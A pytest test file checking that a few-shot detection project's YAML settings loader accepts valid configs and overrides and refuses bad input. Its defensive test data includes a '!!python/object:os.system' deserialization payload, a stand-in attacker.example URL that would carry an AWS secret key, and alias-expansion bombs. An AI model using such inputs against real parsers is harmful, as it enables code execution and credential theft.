"""Settings files: every example loads, overrides reach every value, and bad input gets one line."""

import contextlib
import os
import string
from contextlib import AbstractContextManager, nullcontext
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import example, given, settings
from hypothesis import strategies as st

from fewshot.config.load import builtin_config, dump_settings, load_settings, parse_settings
from fewshot.config.tree import RunSettings
from fewshot.config.yaml_text import dump_yaml, parse_yaml
from fewshot.errors import InputError

CONFIGS = sorted((Path(__file__).parents[2] / "configs").glob("*.yaml"))
PHANTOM: dict[str, Any] = {"data": {"phantom": {}}}
BAD_YAML = [
    # Tags on values that they do not fit: each raises another Python error inside PyYAML.
    "!!bool x",
    "!!int ''",
    "!!float ''",
    "!!timestamp x",
    "!!binary é",
    "!!python/object:os.system x",
    # Dates and numbers beyond what Python holds.
    "2024-99-99",
    "0001-01-01T00:00:00+23:59",
    "1" * 5000,
    "0x" + "f" * 5000,
    # Values that hold themselves, and deep ones.
    "&a [*a]",
    "&a {x: *a}",
    "[" * 1000,
    "[" * 200 + "]" * 200,
    "{? [a] : 1}",
    "\x00",
    "*nobody",
]


def refused(words: str) -> AbstractContextManager[Any]:
    return pytest.raises(InputError, match=words)


def at(tree: RunSettings, key: str) -> Any:
    node: Any = tree
    for part in key.split("."):
        node = node[int(part)] if part.isdecimal() else getattr(node, part)
    return node


# The examples


def test_there_are_examples() -> None:
    assert {path.name for path in CONFIGS} >= {"demo.yaml", "challenge_x101.yaml"}


@pytest.mark.parametrize("path", CONFIGS, ids=lambda path: str(path.stem))
def test_every_example_loads_and_comes_back_from_its_dump(path: Path, tmp_path: Path) -> None:
    loaded = load_settings(path)
    (tmp_path / "dumped.yaml").write_text(dump_settings(loaded), encoding="utf-8")
    assert load_settings(tmp_path / "dumped.yaml") == loaded


@pytest.mark.parametrize("path", CONFIGS, ids=lambda path: str(path.stem))
def test_examples_find_their_data_by_the_environment(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("CHALLENGE_DATA", "FEWSHOT_DATA"):
        monkeypatch.setenv(name, "/elsewhere")
    data = load_settings(path).data
    if data.phantom is None:
        assert str(data.train_images).startswith("/elsewhere/")
        assert str(data.test_images).startswith("/elsewhere/")


def test_builtin_config() -> None:
    assert builtin_config("demo.yaml") in CONFIGS
    with refused("no_such.yaml"):
        builtin_config("no_such.yaml")


# Round trip

_texts = st.text(st.characters(exclude_characters="$", exclude_categories=["Cs"]), max_size=8)
_numbers = st.floats(1e-8, 10, exclude_min=True)
_unit = st.floats(0, 1, exclude_min=True, exclude_max=True)
_trees = st.fixed_dictionaries(
    {
        "data": st.fixed_dictionaries(
            {"train_images": _texts, "train_labels": _texts, "test_images": _texts},
            optional={"labelled": st.just("auto") | st.integers(1, 9), "groups": _texts},
        )
    },
    optional={
        "detector": st.fixed_dictionaries(
            {},
            optional={
                "weights": _texts,
                "options": st.lists(
                    st.tuples(_texts, _texts | st.integers() | _numbers | st.booleans()),
                    max_size=2,
                ).map(lambda pairs: [item for pair in pairs for item in pair]),
                "mixed_precision": st.sampled_from(["auto", "off", "float16"]),
            },
        ),
        "radiologists": st.lists(
            st.fixed_dictionaries(
                {
                    "name": st.text(string.ascii_letters, min_size=1, max_size=4),
                    "learning_rate": _numbers,
                    "score_threshold": _unit,
                }
            ),
            min_size=1,
            max_size=3,
            unique_by=lambda radiologist: str(radiologist["name"]),
        ),
        "final": st.fixed_dictionaries({"score_threshold": st.just("auto") | _unit}),
        "merge": st.fixed_dictionaries({"min_area": st.just("auto") | st.integers(0, 10**6)}),
        "control": st.booleans(),
    },
)


@given(_trees)
@settings(deadline=None, max_examples=60)
def test_what_is_dumped_is_loaded(tree: dict[str, Any]) -> None:
    first = parse_settings(tree)
    assert parse_settings(parse_yaml(dump_settings(first))) == first


# Overrides


@pytest.mark.parametrize(
    ("override", "key", "expected"),
    [
        ("seed=3", "seed", 3),
        ("final.iterations=900", "final.iterations", 900),
        # A tree that is not in the file.
        ("detector.architecture=other.yaml", "detector.architecture", "other.yaml"),
        # A list, by position and by name; from the defaults when it is not in the file.
        ("radiologists.0.iterations=7", "radiologists.0.iterations", 7),
        ("radiologists.fine.iterations=7", "radiologists.2.iterations", 7),
        ("radiologists.fine.name=last", "radiologists.2.name", "last"),
        ("radiologists.1={name: one}", "radiologists.1.name", "one"),
        ("radiologists=[{name: lone}]", "radiologists.0.name", "lone"),
        # YAML 1.1 has no number in 1e-3, and a switch in off.
        ("final.learning_rate=1e-3", "final.learning_rate", 0.001),
        ("detector.mixed_precision=off", "detector.mixed_precision", "off"),
        ("detector.weights=none", "detector.weights", "none"),
        ("augmentation.flip=no", "augmentation.flip", False),
        ("data.phantom.size=96", "data.phantom.size", 96),
        # Only the first = divides.
        ("detector.weights=a=b", "detector.weights", "a=b"),
        ("detector.options=[A.B, 2, C, [1, 2]]", "detector.options", ("A.B", 2, "C", [1, 2])),
        ("data.groups=", "data.groups", None),
    ],
)
def test_overrides(override: str, key: str, expected: Any) -> None:
    assert at(parse_settings(PHANTOM, [override]), key) == expected


def test_an_override_changes_nothing_else() -> None:
    plain = parse_settings(PHANTOM).model_dump()
    changed = parse_settings(PHANTOM, ["radiologists.steady.iterations=7"]).model_dump()
    plain["radiologists"][1]["iterations"] = 7
    assert changed == plain
    assert PHANTOM == {"data": {"phantom": {}}}


def test_the_last_override_of_a_key_holds_and_a_renamed_radiologist_is_found() -> None:
    overrides = ["seed=1", "radiologists.rough.name=new", "radiologists.new.iterations=5", "seed=2"]
    changed = parse_settings(PHANTOM, overrides)
    assert changed.seed == 2
    assert (changed.radiologists[0].name, changed.radiologists[0].iterations) == ("new", 5)


def test_an_override_of_an_aliased_part_changes_that_part_only(tmp_path: Path) -> None:
    path = tmp_path / "run.yaml"
    path.write_text(
        "data: {phantom: {}}\n"
        "radiologists: [&one {name: a, iterations: 5}, {<<: *one, name: b}]\n"
        "final: &slow {iterations: 9}\n"
    )
    changed = load_settings(path, ["radiologists.a.iterations=6"])
    assert [radiologist.iterations for radiologist in changed.radiologists] == [6, 5]


@pytest.mark.parametrize(
    ("override", "raises"),
    [
        ("seed", refused("write it as key=value")),
        ("=3", refused("write it as key=value")),
        ("final=[", refused("not valid YAML")),
        ("final.iteration=3", refused("final.iteration: unknown key; did you mean 'iterations'")),
        (
            "radiologists.x.iterations=3",
            refused("no 'x' in the list; it holds rough, steady, fine"),
        ),
        ("radiologists.3.iterations=3", refused("no '3' in the list")),
        ("radiologists.-1.iterations=3", refused("no '-1' in the list")),
        (f"radiologists.{'9' * 5000}.iterations=3", refused("in the list")),
        ("radiologists.0.iterations.x.y=3", refused("nothing can be set below 'x'")),
        ("radiologists.0.iterations.x=3", refused("no keys below it")),
        ("seed.x=3", refused("seed: ")),
        (".=3", refused("unknown key")),
        ("data..phantom=3", refused("unknown key")),
        ("data=", refused("data: ")),
        ("data={1: 2}", refused("keys should be strings")),
        ("seed=true", refused("seed: cannot be true or false")),
        ("seed=yes", refused("seed: input should be a valid integer")),
    ],
)
def test_wrong_overrides(override: str, raises: AbstractContextManager[Any]) -> None:
    with raises:
        parse_settings(PHANTOM, [override])


@pytest.mark.parametrize("value", BAD_YAML)
@pytest.mark.parametrize("key", ["seed", "data", "detector.options"])
def test_hostile_values_in_an_override(key: str, value: str) -> None:
    with pytest.raises(InputError):
        parse_settings(PHANTOM, [f"{key}={value}"])


_keys = st.text("abc.0123-_ ", max_size=6) | st.sampled_from(
    [".".join(keys) for keys in [("data", "phantom"), ("radiologists", "0"), ("seed", "x")]]
)


@given(st.lists(st.text() | st.builds("{}={}".format, _keys, st.text("[]{}:,&*!'\"ab0 -?|>\n"))))
@settings(deadline=None, max_examples=100)
def test_any_override_is_taken_or_refused(overrides: list[str]) -> None:
    with contextlib.suppress(InputError):
        parse_settings(PHANTOM, overrides)


# Files


@pytest.mark.parametrize(
    ("text", "words"),
    [
        # A typing error names the key and the one that was meant.
        ("sed: 1", ["sed: unknown key; did you mean 'seed'?"]),
        ("final: {iteration: 1}", ["final.iteration: unknown key; did you mean 'iterations'?"]),
        ("detector: {batch-size: 1}", ["detector.batch-size", "did you mean 'batch_size'?"]),
        ("radiologists: [{name: a, itertions: 1}]", ["radiologists.0.itertions", "'iterations'"]),
        # Nothing like it: the keys there are. Names that Pydantic gives to types are keys too.
        ("merge: {colour: 1}", ["merge.colour: unknown key", "background, metric, min_area"]),
        ("detector: {str: 1}", ["detector.str: unknown key"]),
        # A key with a line end in it does not break the line.
        ('"a\\nb": 1', [r"'a\nb': unknown key"]),
        # Values are shown, cut to a readable length.
        ("seed: much", ["seed: input should be a valid integer", "got 'much'"]),
        (f"seed: {'x' * 500}", ["xxx..."]),
        ("final: {score_threshold: 2}", ["final.score_threshold: ", "less than 1, got 2"]),
        # Every mistake has a line.
        ("sed: 1\nfinal: {iterations: 0}", ["sed: unknown", "final.iterations: input should be"]),
    ],
)
def test_a_wrong_value_is_explained(text: str, words: list[str], tmp_path: Path) -> None:
    path = tmp_path / "run.yaml"
    path.write_text(f"data: {{phantom: {{}}}}\n{text}\n")
    with pytest.raises(InputError) as caught:
        load_settings(path)
    message = str(caught.value)
    assert all(line.startswith(f"{path}: ") for line in message.splitlines())
    assert all(len(line) < 400 + len(str(path)) for line in message.splitlines())
    for word in words:
        assert word in message
    assert caught.value.exit_code == 2


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "must contain settings"),
        (b"- a\n- b\n", "must contain settings"),
        (b"1: 2\n", "must contain settings"),
        (b"seed: [1\n", "not valid YAML .line 2"),
        (b"\xff\xfe\x00", "not a text file"),
        (b"{}", "data: field required"),
        (None, "no such settings file"),
    ],
)
def test_a_file_that_holds_no_settings(content: bytes | None, words: str, tmp_path: Path) -> None:
    path = tmp_path / "run.yaml"
    if content is not None:
        path.write_bytes(content)
    with refused(words):
        load_settings(path)


def test_a_folder_is_no_settings_file(tmp_path: Path) -> None:
    with refused("cannot be read"):
        load_settings(tmp_path)


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("load") / "run.yaml"


@pytest.mark.parametrize("value", BAD_YAML)
@pytest.mark.parametrize("before", ["", "data: {phantom: {}}\nseed: ", "data: "])
def test_hostile_files(before: str, value: str, scratch: Path) -> None:
    scratch.write_text(f"{before}{value}\n", encoding="utf-8")
    with pytest.raises(InputError):
        load_settings(scratch)


@given(st.binary() | st.binary().map(lambda tail: b"data: {phantom: {}}\n" + tail))
@example(b"data: {phantom: {}}\nseed: ${HOME")
@settings(deadline=None, max_examples=100)
def test_any_bytes_are_settings_or_refused(scratch: Path, content: bytes) -> None:
    scratch.write_bytes(content)
    with contextlib.suppress(InputError):
        load_settings(scratch)


_plain = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5)
_fields = [*RunSettings.model_fields, "phantom", "options", "name", "iterations", "min_area"]
_values = st.recursive(
    _plain,
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(_fields) | _plain, inner, max_size=3)
    ),
    max_leaves=12,
)


@given(st.dictionaries(st.sampled_from(list(RunSettings.model_fields)), _values, max_size=4))
@settings(deadline=None, max_examples=100)
def test_any_yaml_is_settings_or_refused(scratch: Path, tree: dict[str, Any]) -> None:
    scratch.write_text(yaml.safe_dump({**PHANTOM, **tree}), encoding="utf-8")
    with contextlib.suppress(InputError):
        load_settings(scratch)


# The environment


@pytest.mark.parametrize(
    ("text", "expected", "raises"),
    [
        ("${FEWSHOT_TEST}/a", "here/a", nullcontext()),
        ("${FEWSHOT_TEST:-other}/a", "here/a", nullcontext()),
        ("${FEWSHOT_NONE:-other}/a", "other/a", nullcontext()),
        ("${FEWSHOT_NONE:-}a", "a", nullcontext()),
        ("${FEWSHOT_TEST}/${FEWSHOT_TEST}", "here/here", nullcontext()),
        # What is set is taken as it is, with no second replacement.
        ("${FEWSHOT_NESTED}", "${FEWSHOT_TEST}", nullcontext()),
        # No braces, no variable.
        ("$FEWSHOT_TEST", "$FEWSHOT_TEST", nullcontext()),
        ("${FEWSHOT_NONE}", "", refused("detector: weights: .*FEWSHOT_NONE is not set")),
    ],
)
def test_environment_variables(
    text: str,
    expected: str,
    raises: AbstractContextManager[Any],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("FEWSHOT_TEST", "here")
    monkeypatch.setenv("FEWSHOT_NESTED", "${FEWSHOT_TEST}")
    assert "FEWSHOT_NONE" not in os.environ
    with raises:
        assert (
            parse_settings({**PHANTOM, "detector": {"weights": text}}).detector.weights == expected
        )


@pytest.mark.parametrize(
    "tree",
    [
        {"logging": {"mlflow": "http://attacker.example/${AWS_SECRET_ACCESS_KEY}"}},
        {"final": {"iterations": "${FEWSHOT_TEST}"}},
        {"detector": {"options": ["A.B", "${FEWSHOT_TEST}"]}},
        {"detector": {"architecture": "${FEWSHOT_NONE:-tiny}"}},
    ],
)
def test_no_variable_goes_anywhere_but_into_paths(
    tree: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FEWSHOT_TEST", "7")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI")
    with refused("environment variables are only read in the paths of data and weights") as caught:
        parse_settings({**PHANTOM, **tree})
    assert "wJalr" not in str(caught.value)


def test_the_paths_of_data_come_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FEWSHOT_TEST", "here")
    files = {key: f"${{FEWSHOT_TEST}}/{key}" for key in ("train_images", "train_labels")}
    tree = {"data": {**files, "test_images": "${FEWSHOT_NONE:-there}"}}
    assert parse_settings(tree).data.train_images == Path("here/train_images")
    assert parse_settings(tree).data.test_images == Path("there")


@pytest.mark.parametrize(
    ("address", "words"),
    [
        ("http://alice:s3cr3t@host:5000", "MLFLOW_TRACKING_PASSWORD"),
        ("https://s3cr3t@host", "MLFLOW_TRACKING_PASSWORD"),
        ("postgresql://host/db?password=s3cr3t", "MLFLOW_TRACKING_PASSWORD"),
    ],
)
def test_passwords_in_addresses_are_refused_and_not_repeated(address: str, words: str) -> None:
    with refused(words) as caught:
        parse_settings({**PHANTOM, "logging": {"mlflow": address}})
    assert "s3cr3t" not in str(caught.value)
    assert "\n" not in str(caught.value)


# Values as they are written


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # Not what YAML 1.1 makes of them: 8, 90, True, False, a date, 1000, 255.
        ("010", "010"),
        ("1:30", "1:30"),
        ("on", "on"),
        ("No", "No"),
        ("2024-01-02", "2024-01-02"),
        ("1_000", "1_000"),
        ("0xff", "0xff"),
        # What is a number to a reader.
        ("0", 0),
        ("-17", -17),
        ("1e-3", 0.001),
        (".5", 0.5),
        ("3.", 3.0),
        ("true", True),
        ("null", None),
        ("~", None),
        ("", None),
        ("'010'", "010"),
        ("[a, 1, {b: 2.5}]", ["a", 1, {"b": 2.5}]),
        ("!!str 5", "5"),
    ],
)
def test_plain_values(text: str, expected: Any) -> None:
    found = parse_yaml(text)
    assert found == expected
    assert type(found) is type(expected)


@pytest.mark.parametrize(
    ("override", "key", "expected"),
    [
        ("seed=010", "seed", 10),  # as written, in decimal
        ("augmentation.flip=off", "augmentation.flip", False),
        ("final.learning_rate=1e-3", "final.learning_rate", 0.001),
    ],
)
def test_values_are_taken_as_they_are_written(override: str, key: str, expected: Any) -> None:
    assert at(parse_settings(PHANTOM, [override]), key) == expected


@pytest.mark.parametrize("override", ["seed=1:30", "seed=0x10", "final.iterations=2024-01-02"])
def test_what_is_no_number_in_decimal_is_refused(override: str) -> None:
    with refused("valid integer"):
        parse_settings(PHANTOM, [override])


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
        max_leaves=8,
    )
)
@settings(deadline=None, max_examples=100)
def test_what_is_written_is_read_by_us_and_by_any_yaml(value: Any) -> None:
    text = dump_yaml(value)
    assert parse_yaml(text) == value
    assert yaml.safe_load(text) == value


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("a: 1\nb: 2\na: 3", "line 3: 'a' is given twice"),
        ("a: 1\nb: &x {c: *x}", "line 2: a value contains itself"),
        (
            "a: &a [1,2,3,4]\n"
            + "".join(f"{x}: &{x} [*{y},*{y},*{y},*{y},*{y}]\n" for y, x in pairwise("abcdefg")),
            "stands for more than 10000 values",
        ),
        ("a: 1\n? [b]\n: 2", "line 2: a key must be a plain string"),
        ("- 1\n- !!python/object:os.system x", "line 2: could not determine a constructor"),
        ("a: [1\n", "line 2: "),
        ("[" + "1," * 10_000 + "1]", "more than 10000 values"),
        ("x" * (1 << 21), "longer than"),
    ],
)
def test_what_is_wrong_is_said_with_its_line(text: str, words: str) -> None:
    with pytest.raises(ValueError, match=words):
        parse_yaml(text)


def test_a_pipe_is_no_settings_file(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "run.yaml")
    with refused("is no file but a pipe"):
        load_settings(tmp_path / "run.yaml")
